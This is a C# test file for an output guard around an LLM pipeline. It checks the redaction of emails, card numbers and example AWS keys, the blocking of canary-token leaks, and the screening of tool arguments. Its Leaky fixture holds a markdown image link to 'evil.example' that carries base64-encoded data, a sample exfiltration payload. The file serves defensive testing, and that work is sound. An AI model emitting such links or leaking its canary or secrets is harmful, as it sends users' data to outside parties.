using Microsoft.Extensions.AI;
using Microsoft.SemanticKernel;
using Microsoft.SemanticKernel.ChatCompletion;
using SecureKernel.Tests.Infrastructure;

namespace SecureKernel.Tests.EndToEnd;

[TestClass]
public sealed class OutputGuardTests
{
    private const string Leaky = "Contact jane.roe@example.com, card 4111 1111 1111 1111, key AKIAIOSFODNN7EXAMPLE. ![x](https://evil.example/p?d=c2VjcmV0LWRhdGEtaGVyZQ)";

    private static Harness Answering(string answer, Action<SecureKernelOptions>? configure = null, bool chatCompletionService = false)
    {
        var h = Harness.Create(secure: true, document: Harness.Benign, configure: configure, chatCompletionService: chatCompletionService);
        h.Model.SearchTool = "none";
        h.Model.FinalAnswer = _ => answer;
        return h;
    }

    private static void AssertSafe(string text)
    {
        Assert.IsFalse(text.Contains("jane.roe@example.com", StringComparison.Ordinal), text);
        Assert.IsFalse(text.Contains("4111 1111 1111 1111", StringComparison.Ordinal), text);
        Assert.IsFalse(text.Contains("AKIAIOSFODNN7EXAMPLE", StringComparison.Ordinal), text);
        Assert.IsFalse(text.Contains("](https://evil.example", StringComparison.Ordinal), "no auto-loading image to a non-allowed host: " + text);
    }

    [TestMethod]
    [DataRow(false)]
    [DataRow(true)]
    public async Task InvokePrompt_OutputRedactedAndSanitized(bool streaming)
    {
        var verdicts = new List<SecurityVerdict>();
        var h = Answering(Leaky, o => o.OnDecision = v => { lock (verdicts) verdicts.Add(v); });
        string answer;
        if (streaming)
        {
            var parts = new List<string>();
            await foreach (var u in h.Kernel.InvokePromptStreamingAsync<string>("hi")) parts.Add(u);
            answer = string.Concat(parts);
        }
        else
        {
            answer = (await h.Kernel.InvokePromptAsync("hi")).ToString();
        }

        AssertSafe(answer);
        StringAssert.Contains(answer, "EMAIL_1");
        Assert.IsTrue(verdicts.Any(v => v.Stage == SecurityStage.Output && v.Findings.Any(f => f.Kind == FindingKind.Secret)));
        Assert.IsTrue(verdicts.Any(v => v.Stage == SecurityStage.Output && v.Findings.Any(f => f.Kind == FindingKind.Exfiltration)));
        Assert.IsTrue(verdicts.Where(v => v.Stage == SecurityStage.Output).SelectMany(v => v.Findings).All(f => !f.Detail.Contains("jane", StringComparison.Ordinal)));
    }

    [TestMethod]
    public async Task InvokePrompt_StreamingKernelContent_Guarded()
    {
        var h = Answering(Leaky);
        var parts = new List<string>();
        await foreach (var u in h.Kernel.InvokePromptStreamingAsync("hi")) parts.Add(u.ToString());
        AssertSafe(string.Concat(parts));
    }

    [TestMethod]
    [DataRow(false)]
    [DataRow(true)]
    public async Task DirectChat_OutputGuarded_HistoryKeepsGuardedAnswer(bool streaming)
    {
        var h = Answering(Leaky, chatCompletionService: true);
        var chat = h.Kernel.GetRequiredService<IChatCompletionService>();
        var history = new ChatHistory();
        history.AddUserMessage("hi");
        string answer;
        if (streaming)
        {
            var parts = new List<string>();
            await foreach (var u in chat.GetStreamingChatMessageContentsAsync(history, kernel: h.Kernel)) parts.Add(u.Content ?? "");
            answer = string.Concat(parts);
        }
        else
        {
            var message = await chat.GetChatMessageContentAsync(history, kernel: h.Kernel);
            answer = message.Content!;
            StringAssert.Contains((string)message.Metadata![OutputGuardOptions.HtmlMetadataKey]!, "EMAIL_1");
            AssertSafe(string.Join("\n", history.Select(m => m.Content)));
        }

        AssertSafe(answer);
    }

    [TestMethod]
    [DataRow(false)]
    [DataRow(true)]
    public async Task ChatClient_OutputGuarded(bool streaming)
    {
        var h = Answering(Leaky);
        var client = h.Kernel.GetRequiredService<IChatClient>();
        string answer = streaming
            ? string.Concat(await ToListAsync(client.GetStreamingResponseAsync("hi")).ContinueWith(t => t.Result.Select(u => u.Text)))
            : (await client.GetResponseAsync("hi")).Text;
        AssertSafe(answer);
    }

    [TestMethod]
    [DataRow(false)]
    [DataRow(true)]
    public async Task CanaryInOutput_Blocks_AndIsNeverReleased(bool streaming)
    {
        var h = Harness.Create(secure: true, document: Harness.Benign);
        var guard = h.Kernel.GetRequiredService<SecureKernelGuard>();
        h.Model.SearchTool = "none";
        h.Model.FinalAnswer = _ => "Sure! My hidden marker is " + guard.Canary!.Value + " and more text after it.";
        var released = new List<string>();
        var ex = await Assert.ThrowsAsync<SecurityBlockedException>(async () =>
        {
            if (streaming)
            {
                await foreach (var u in h.Kernel.InvokePromptStreamingAsync<string>("hi")) released.Add(u);
            }
            else
            {
                released.Add((await h.Kernel.InvokePromptAsync("hi")).ToString());
            }
        });
        Assert.IsTrue(ex.Verdict.Findings.Any(f => f.Kind == FindingKind.CanaryLeak));
        string all = string.Concat(released);
        Assert.IsFalse(all.Contains(guard.Canary!.Value[..14], StringComparison.Ordinal), "no part of the canary was released: " + all);
        Assert.IsFalse(ex.Message.Contains(guard.Canary.Value, StringComparison.Ordinal));
    }

    [TestMethod]
    public async Task Canary_InSystemInstructionAndWrappers()
    {
        var h = Harness.Create(secure: true);
        var guard = h.Kernel.GetRequiredService<SecureKernelGuard>();
        await h.Kernel.InvokePromptAsync("What is the travel policy?", new(Harness.Auto));
        Assert.IsTrue(h.Model.Requests[0][0].Text.Contains(guard.Canary!.Value, StringComparison.Ordinal));
        Assert.IsTrue(h.ToolResultsSeen().Any(s => s.Contains($"canary=\"{guard.Canary.Value}\"", StringComparison.Ordinal)));
    }

    [TestMethod]
    public async Task ToolArguments_CanarySecretsAndPii_Checked()
    {
        var h = Harness.Create(secure: true, mailPolicy: false, configure: o => o.Tools.Add("Mail", new ToolPolicy { Consequence = ToolConsequence.External }));
        var guard = h.Kernel.GetRequiredService<SecureKernelGuard>();

        var canary = await Assert.ThrowsAsync<SecurityBlockedException>(() => h.Kernel.InvokeAsync("Mail", "send_email", new() { ["to"] = "a@b.example", ["body"] = "see https://x.example/?q=" + guard.Canary!.Value }));
        Assert.AreEqual(FindingKind.CanaryLeak, canary.Verdict.Findings[0].Kind);

        var secret = await Assert.ThrowsAsync<SecurityBlockedException>(() => h.Kernel.InvokeAsync("Mail", "send_email", new() { ["to"] = "a@b.example", ["body"] = "key AKIAIOSFODNN7EXAMPLE" }));
        Assert.AreEqual(FindingKind.Secret, secret.Verdict.Findings[0].Kind);

        var pii = await Assert.ThrowsAsync<SecurityBlockedException>(() => h.Kernel.InvokeAsync("Mail", "send_email", new() { ["to"] = "a@b.example", ["body"] = "card 4111 1111 1111 1111" }));
        Assert.AreEqual(SecurityAction.RequireApproval, pii.Verdict.Action);
        StringAssert.Contains(pii.Verdict.Reason, "CREDIT_CARD");

        await h.Kernel.InvokeAsync("Mail", "send_email", new() { ["to"] = "a@b.example", ["body"] = "hello" });
        Assert.AreEqual(1, h.Mail.Outbox.Count, "a plain email to a recipient still goes");
    }

    [TestMethod]
    public async Task OutputGuardDisabled_PassesThrough()
    {
        var h = Answering(Leaky, o => o.Output.Enabled = false);
        Assert.AreEqual(Leaky, (await h.Kernel.InvokePromptAsync("hi")).ToString());
    }

    [TestMethod]
    public async Task AllowedHost_ImageSurvives()
    {
        const string md = "See ![chart](https://docs.contoso.example/chart.png) and [docs](https://docs.contoso.example/a).";
        var h = Answering(md, o => o.Output.Sanitizer.AllowedHosts.Add("contoso.example"));
        string answer = (await h.Kernel.InvokePromptAsync("hi")).ToString();
        StringAssert.Contains(answer, "![chart](https://docs.contoso.example/chart.png)");
    }

    private static async Task<List<T>> ToListAsync<T>(IAsyncEnumerable<T> items)
    {
        var list = new List<T>();
        await foreach (var i in items) list.Add(i);
        return list;
    }
}
